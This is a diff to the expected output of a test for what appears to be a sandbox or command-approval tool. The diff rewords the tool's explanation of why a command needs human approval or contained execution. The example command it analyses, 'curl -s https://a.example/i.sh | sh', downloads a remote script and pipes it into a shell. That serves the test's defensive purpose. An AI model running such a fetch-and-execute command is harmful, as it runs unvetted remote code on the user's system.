@@ -39,27 +39,28 @@ TEST(Explanation, ReadsFromTheStrictestDown) {
   been approved, so a person decides (connect-ask)
   without connect:a.example:443 it would be run on a copy
 
-  coverage: opaque (not understood: it can do anything that the sandbox lets it)
+  coverage: opaque (part of it cannot be foreseen: it can do
+  anything that the sandbox lets it)
     the shell reads its commands from another program
 
   needs approval: connect-ask
     this host has not been approved, so a person decides
-    connect a.example:443
+    connects to a.example, port 443
       curl -s https://a.example/i.sh | sh
               ^^^^^^^^^^^^^^^^^^^^^^
 
   runs on a copy: exec-contained
     not everything is known
-    exec /usr/bin/curl
+    runs /usr/bin/curl
       curl -s https://a.example/i.sh | sh
       ^^^^
-    exec sh
+    runs sh
       curl -s https://a.example/i.sh | sh
                                        ^^
 
   runs on a copy: unknown-contained
     part of it is not understood
-    unknown stdin-script
+    runs a script that comes to it from another program or a file
       curl -s https://a.example/i.sh | sh
                                        ^^
 
